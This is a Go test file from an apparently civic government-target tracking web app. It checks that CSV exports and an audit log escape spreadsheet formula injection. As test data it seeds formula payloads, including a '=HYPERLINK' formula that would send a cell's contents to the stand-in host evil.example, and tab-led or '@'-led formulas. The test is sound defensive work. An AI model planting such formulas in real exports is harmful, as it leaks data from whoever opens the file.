package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/url"
	"strconv"
	"testing"

	"github.com/goalpost-civic/goalpost/internal/goalpost"
	"github.com/goalpost-civic/goalpost/internal/testdb"
)

// readCSV parses a downloaded CSV (after its byte-order mark).
func readCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF"))))
	r.FieldsPerRecord = -1
	records, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return records
}

// TestCSVCellsAreNotFormulas: text that a spreadsheet would run as a
// formula (=, +, -, @, a tab or carriage return first) comes out of every
// CSV download with an apostrophe before it; numbers stay numbers; the
// ledger still reads back unchanged.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	testdb.PublishDirectly(t, h.db)
	ctx := context.Background()
	const link = `=HYPERLINK("http://evil.example/?d="&A1,"详情")`
	pm := h.target("t22-pm25-concentration")
	if _, err := h.db.Pool.Exec(ctx, `UPDATE targets SET title = $1, source_text = '+1' WHERE id = $2`, link, pm.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := h.db.Pool.Exec(ctx, `UPDATE departments SET name = E'\t=1+1' WHERE slug = 'ecology-environment'`); err != nil {
		t.Fatal(err)
	}
	if _, err := h.db.CreateUser(ctx, "admin@dalian.gov.cn", "@SUM(A1:A9)", goalpost.UserAdmin, "correct horse battery", nil, nil); err != nil {
		t.Fatal(err)
	}
	h.user("env@dalian.gov.cn", goalpost.UserEditor, "ecology-environment")
	editor := h.client()
	editor.login("env@dalian.gov.cn")
	path := fmt.Sprintf("/targets/%d", pm.ID)
	if resp, _ := editor.post(path+"/figures", url.Values{"csrf_token": {editor.csrf(path)}, "period": {"2024"}, "value": {"-3.5"}}); resp.StatusCode >= 400 {
		t.Fatalf("figure: %d", resp.StatusCode)
	}

	// Open data.
	id := strconv.FormatInt(pm.ID, 10)
	records := readCSV(t, editor.download("/api/v1/targets.csv"))
	col := map[string]int{}
	for j, h := range records[0] {
		col[h] = j
	}
	var row []string
	for _, r := range records {
		if r[0] == id {
			row = r
		}
	}
	if row == nil {
		t.Fatal("target missing from targets.csv")
	}
	for name, want := range map[string]string{"title": "'" + link, "source_text": "'+1", "lead_units": "'\t=1+1", "latest_value": "-3.5"} {
		if got := row[col[name]]; got != want {
			t.Errorf("targets.csv %s = %q, want %q", name, got, want)
		}
	}

	// The ledger, which also reads back.
	dept := "/departments/ecology-environment"
	data := editor.download(dept + "/ledger.csv")
	records = readCSV(t, data)
	if got, want := records[0][0], "'\t=1+1 工作台账"; got != want {
		t.Errorf("ledger title = %q, want %q", got, want)
	}
	row = nil
	for _, r := range records {
		if r[0] == id {
			row = r
		}
	}
	if row == nil || row[4] != "'"+link || row[9] != "-3.5" {
		t.Errorf("ledger row = %q, want the title prefixed and 2024 = -3.5", row)
	}
	resp, doc := editor.upload(dept+"/ledger", "ledger.csv", data, dept)
	if resp.StatusCode != 200 || doc.Find(`[data-testid="ledger-nochange"]`).Length() != 1 {
		t.Errorf("ledger uploaded unchanged: %d %s", resp.StatusCode, doc.Find("main").Text())
	}

	// The audit trail: the administrator's name is their own choice.
	admin := h.client()
	admin.login("admin@dalian.gov.cn")
	if resp, _ := admin.post("/account/tokens", url.Values{"csrf_token": {admin.csrf("/account")}, "name": {"-x"}}); resp.StatusCode >= 400 {
		t.Fatalf("token: %d", resp.StatusCode)
	}
	records = readCSV(t, admin.download("/admin/audit.csv?entity=api_token"))
	if len(records) < 2 || records[1][2] != "'@SUM(A1:A9) <admin@dalian.gov.cn>" {
		t.Errorf("audit.csv = %q, want the actor prefixed", records)
	}
}
